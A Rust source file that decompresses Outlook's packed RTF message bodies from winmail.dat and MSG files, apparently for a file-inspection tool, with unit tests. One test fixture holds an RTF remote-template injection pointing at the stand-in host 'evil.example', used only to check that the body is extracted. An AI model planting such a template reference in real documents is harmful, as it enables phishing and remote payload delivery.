//! RTF as Outlook packs it: the text of a message in `winmail.dat` and in MSG. Source: Microsoft, *[MS-OXRTFCP]*, sections 2.1 and 2.2.

use super::super::Walk;
use crate::budget::Exceeded;
use crate::little_endian::u32_at;
use std::io::{self, Read};

const PACKED: &[u8] = b"LZFu";
const PLAIN: &[u8] = b"MELA";
/// Sizes, kind and sum.
const HEADER: usize = 16;
const WINDOW: usize = 4096;
/// What the window has in it at the beginning.
const KNOWN: &[u8] = b"{\\rtf1\\ansi\\mac\\deff0\\deftab720{\\fonttbl;}{\\f0\\fnil \\froman \\fswiss \\fmodern \\fscript \\fdecor MS Sans SerifSymbolArial\
    Times New RomanCourier{\\colortbl\\red0\\green0\\blue0\r\n\\par \\pard\\plain\\f0\\fs20\\b\\i\\u\\tab\\tx";

/// Shows the texts that are packed somewhere in these octets.
pub(super) fn open(walk: &mut Walk<'_>, data: &[u8], level: u32) -> Result<(), Exceeded> {
    let places = [PACKED, PLAIN].map(|mark| memchr::memmem::find_iter(data, mark));
    for at in places.into_iter().flatten().filter_map(|mark| mark.checked_sub(8)) {
        // How long it is, without the number that says so.
        let length = u32_at(data, at).map_or(0, |length| length as usize).saturating_add(4);
        let text = &data[at..at.saturating_add(length).min(data.len())];
        if let Some(mut unpacking) = Unpacking::new(text) {
            walk.member(&["body.rtf".into()], text.len() as u64, &mut unpacking, level)?;
        }
    }
    Ok(())
}

/// A text being unpacked.
struct Unpacking<'d> {
    rest: &'d [u8],
    is_plain: bool,
    window: [u8; WINDOW],
    /// Where the next octet goes in the window.
    at: usize,
    /// Which of the next tokens are copies, and how many tokens that is about.
    kinds: u8,
    left: u8,
    /// A copy that goes on: from where, and how many octets.
    copy: (usize, usize),
}

impl Unpacking<'_> {
    /// None if it is not packed so.
    fn new(data: &[u8]) -> Option<Unpacking<'_>> {
        let kind = data.get(8..12)?;
        let mut window = [0; WINDOW];
        window[..KNOWN.len()].copy_from_slice(KNOWN);
        (kind == PACKED || kind == PLAIN).then(|| Unpacking {
            rest: data.get(HEADER..).unwrap_or_default(),
            is_plain: kind == PLAIN,
            window,
            at: KNOWN.len(),
            kinds: 0,
            left: 0,
            copy: (0, 0),
        })
    }

    /// The next octet; none at the end.
    fn octet(&mut self) -> Option<u8> {
        if self.copy.1 == 0 && !self.is_plain {
            if self.left == 0 {
                (self.kinds, self.left) = (self.taken()?, 8);
            }
            let is_copy = self.kinds & 1 != 0;
            (self.kinds, self.left) = (self.kinds >> 1, self.left - 1);
            if is_copy {
                let token = u16::from_be_bytes([self.taken()?, self.taken()?]);
                let (from, length) = (usize::from(token >> 4), usize::from(token & 15) + 2);
                // A copy of what comes next is the end.
                if from == self.at {
                    self.rest = &[];
                    return None;
                }
                self.copy = (from, length);
            }
        }
        let octet = match self.copy {
            (_, 0) => self.taken()?,
            (from, length) => {
                self.copy = ((from + 1) % WINDOW, length - 1);
                self.window[from]
            }
        };
        self.window[self.at] = octet;
        self.at = (self.at + 1) % WINDOW;
        Some(octet)
    }

    fn taken(&mut self) -> Option<u8> {
        let (first, rest) = self.rest.split_first()?;
        self.rest = rest;
        Some(*first)
    }
}

impl Read for Unpacking<'_> {
    fn read(&mut self, buffer: &mut [u8]) -> io::Result<usize> {
        let mut read = 0;
        while read < buffer.len() {
            let Some(octet) = self.octet() else { break };
            buffer[read] = octet;
            read += 1;
        }
        Ok(read)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_files::compound;
    use crate::walk::seen::Seen;

    fn unpacked(data: &[u8]) -> Option<Vec<u8>> {
        let mut out = Vec::new();
        Unpacking::new(data)?.read_to_end(&mut out).unwrap();
        Some(out)
    }

    #[test]
    fn the_examples_of_the_specification() {
        assert_eq!(KNOWN.len(), 207);
        let simple = b"\x2d\0\0\0\x2b\0\0\0LZFu\xf1\xc5\xc7\xa7\x03\0\x0a\0rcpg125B2\x0a\xf3 hel\x09\0 bw\x05\xb0ld}\x0a\x80\x0f\xa0";
        assert_eq!(unpacked(simple).unwrap(), b"{\\rtf1\\ansi\\ansicpg1252\\pard hello world}\r\n");
        let crossing = b"\x1a\0\0\0\x1c\0\0\0LZFu\xe2\xd4\x4b\x51\x41\0\x04\x20WXYZ\x0d\x6e\x7d\x01\x0e\xb0";
        assert_eq!(unpacked(crossing).unwrap(), b"{\\rtf1 WXYZWXYZWXYZWXYZWXYZ}");
        assert_eq!(unpacked(b"\0\0\0\0\0\0\0\0MELA\0\0\0\0{\\rtf1}").unwrap(), b"{\\rtf1}");
        assert_eq!(unpacked(b"{\\rtf1 is a text}"), None);
    }

    #[test]
    fn the_text_of_a_message_of_outlook_is_shown() {
        let text = b"{\\rtf1{\\*\\template http://evil.example/a}}";
        let packed = [&(text.len() as u32 + 12).to_le_bytes()[..], &[0; 4], PLAIN, &[0; 4], text].concat();
        let properties =
            [&[1, 0, 0, 0, 2, 1, 9, 0x10, 1, 0, 0, 0][..], &(packed.len() as u32).to_le_bytes(), &packed].concat();
        let sum = properties.iter().fold(0u16, |sum, octet| sum.wrapping_add(u16::from(*octet)));
        let length = (properties.len() as u32).to_le_bytes();
        let attribute = [&[1, 3, 0x90, 6, 0][..], &length, &properties, &sum.to_le_bytes()].concat();
        let winmail = [b"\x78\x9f\x3e\x22\x01\0".as_slice(), &attribute].concat();
        let message = compound(&[("/__substg1.0_10090102", &packed)]);
        for data in [winmail, message] {
            let files = Seen::of("a.dat", &data).files;
            assert!(files.iter().any(|file| file.names[0] == "body.rtf" && file.data == text));
        }
    }

    #[test]
    fn whatever_comes_ends() {
        for length in 0..40 {
            let data = [b"\0\0\0\0\0\0\0\0LZFu\0\0\0\0".as_slice(), &vec![0xff; length]].concat();
            assert!(unpacked(&data).unwrap().len() <= 17 * length);
        }
    }
}
